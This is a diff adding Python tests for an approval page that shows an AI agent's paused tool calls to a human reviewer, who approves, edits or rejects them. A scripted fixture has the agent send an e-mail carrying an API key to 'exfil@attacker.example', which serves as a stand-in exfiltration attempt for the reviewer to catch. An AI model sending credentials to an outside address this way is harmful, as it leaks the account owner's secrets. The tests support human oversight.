@@ -1,0 +1,115 @@
+"""The page's cards, in process: context to decide on, real values with secrets marked, nothing pre-selected,
+an edit merged per field, a second submit told who decided, every waiting run reachable by paging."""
+
+from __future__ import annotations
+
+import re
+from collections.abc import AsyncIterator
+from contextlib import asynccontextmanager
+from html import unescape
+from typing import Any
+
+import httpx2
+
+from middleware import approve
+from onion import Agent, tool
+from onion.serve import serve
+from onion.stores import MemoryStore
+from onion.testing import ScriptedModel, call
+
+SENT: list[dict[str, Any]] = []
+API_KEY = "sk-ant-api03-" + "k" * 40
+
+
+@tool
+def find_customer(name: str) -> str:
+    """Find a customer's e-mail address."""
+    return f"{name} <{name.lower()}@example.com>"
+
+
+@tool
+def send_email(to: str, body: str, api_key: str) -> str:
+    """Send an e-mail to a customer from our account."""
+    SENT.append({"to": to, "body": body, "api_key": api_key})
+    return f"sent to {to}"
+
+
+def mailer(store: Any) -> Agent[str]:
+    script = [
+        [call("find_customer", name="Ada")],
+        [
+            call("send_email", to="exfil@attacker.example", body="Your refund\nis on its way.", api_key=API_KEY),
+            call("send_email", to="ada@example.com", body="Hello", api_key=API_KEY),
+        ],
+        "Sent.",
+    ]
+    agent = Agent(ScriptedModel(script), tools=[find_customer, send_email], name="mailer", store=store)
+    return agent.use(approve("send_email"))
+
+
+@asynccontextmanager
+async def client(app: Any) -> AsyncIterator[httpx2.AsyncClient]:
+    transport = httpx2.ASGITransport(app=app)
+    async with httpx2.AsyncClient(transport=transport, base_url="http://127.0.0.1") as http:
+        yield http
+
+
+def text(html: str) -> str:
+    return unescape(re.sub(r"<[^>]+>", " ", html))
+
+
+async def test_a_card_shows_what_a_person_needs_and_marks_secrets_without_sending_them() -> None:
+    """The card shows the run's input, an earlier tool's result, the tool's description, the real recipient
+    and the multi-line body as text; the API key shows only as 'a secret, N characters', never its value nor
+    [REDACTED]; no choice is pre-selected."""
+    store = MemoryStore()
+    agent = mailer(store)
+    await agent.run("tell Ada her refund is coming")
+    async with client(serve(agent)) as http:
+        page = (await http.get("/")).text
+    shown = text(page)
+    assert "tell Ada her refund is coming" in shown and "ada@example.com" in shown
+    assert "Send an e-mail to a customer from our account." in shown
+    assert "exfil@attacker.example" in shown and "Your refund\nis on its way." in shown
+    assert f"a secret, {len(API_KEY)} characters" in shown
+    assert API_KEY not in page and "[REDACTED]" not in page
+    assert " checked" not in page and "1 run waiting for a decision" in shown
+
+
+async def test_an_edit_is_merged_over_the_real_arguments_and_a_call_left_without_a_choice_is_named() -> None:
+    """Editing one field keeps the real secret (left empty) and the other fields; a call without a choice is
+    named in plain words and nothing runs; a second submit of the same form says who decided, and when."""
+    SENT.clear()
+    store = MemoryStore()
+    agent = mailer(store)
+    paused = await agent.run("tell Ada")
+    first, second = (c.id for c in paused.pending)
+    form = {f"decision:{first}": "edit", f"field:{first}:to": "ada@example.com", f"field:{first}:api_key": ""}
+    async with client(serve(agent)) as http:
+        unchosen = await http.post(f"/runs/{paused.run_id}/decisions", data=form)
+        assert unchosen.status_code == 422 and f"send_email ({second})" in text(unchosen.text)
+        assert SENT == []
+        form[f"decision:{second}"] = "reject"
+        form[f"reason:{second}"] = "one mail is enough"
+        done = await http.post(f"/runs/{paused.run_id}/decisions", data=form, follow_redirects=True)
+        again = await http.post(f"/runs/{paused.run_id}/decisions", data=form)
+    assert SENT == [{"to": "ada@example.com", "body": "Your refund\nis on its way.", "api_key": API_KEY}]
+    assert done.status_code == 200 and f"Decided run {paused.run_id}" in text(done.text)
+    assert again.status_code == 200 and "already decided by" in text(again.text) and "nothing ran twice" in again.text
+
+
+async def test_every_waiting_run_is_reachable_by_paging_oldest_first() -> None:
+    """150 paused runs: 20 cards a page, 8 pages, each run on exactly one of them; none drops off."""
+    store = MemoryStore()
+    ids = []
+    for _ in range(150):
+        model = ScriptedModel([[call("send_email", to="a@example.com", body="x", api_key="none")]])
+        agent = Agent(model, tools=[send_email], name="mailer", store=store).use(approve("send_email"))
+        ids.append((await agent.run("mail")).run_id)
+    found: list[str] = []
+    async with client(serve(agent)) as http:
+        first = (await http.get("/")).text
+        assert "150 runs waiting for a decision" in text(first) and "id='page-8'" in first
+        for number in range(1, 9):
+            found += re.findall(r"<form class=paused id='run-([^']+)'", (await http.get(f"/?page={number}")).text)
+    assert found == ids
